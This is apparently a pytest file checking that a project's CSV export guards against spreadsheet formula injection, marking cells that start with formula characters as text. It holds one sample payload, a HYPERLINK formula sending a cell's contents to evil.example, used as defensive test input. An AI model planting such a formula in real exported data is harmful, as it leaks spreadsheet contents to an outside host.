"""A spreadsheet takes no name for a formula."""

from __future__ import annotations

import csv
import io

import pytest

import ali5
from ali5.classifying.teach.examples import example_groups
from ali5.pictures.samples import open_sample
from ali5.site.app.explore.wall.measures import table_as_csv
from ali5.site.app.tables import as_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("name", [EVIL, "+1", "-1", "@a", "\t=1", "\r=1", "\n=1"])
def test_a_cell_that_looks_like_a_formula_is_marked_as_text(name: str) -> None:
    rows = list(csv.reader(io.StringIO(as_csv(["name", "share"], [[name, -0.5]]), newline="")))
    assert rows == [["name", "share"], [f"'{name}", "-0.5"]]


def test_other_cells_are_as_they_are() -> None:
    text = as_csv(["a", "b", "c"], [["x, “y”", None, True], ["", 1e-9, -3]])
    assert text == 'a,b,c\r\n"x, “y”",,True\r\n,1e-09,-3\r\n'


def test_names_of_a_taught_head_are_no_formulas_in_the_table_of_its_scores() -> None:
    shapes = example_groups("shapes")
    groups = dict(zip((EVIL[:40], "b", "c"), shapes.values(), strict=True))
    head = ali5.teach(ali5.load("lenet5", "colour", device="cpu"), groups)
    trace = ali5.trace(head.network, open_sample("cat"))
    rows = list(csv.DictReader(io.StringIO(table_as_csv(trace, trace.steps[-1].name))))
    assert [row["class"] for row in rows] == [f"'{EVIL[:40]}", "b", "c"]
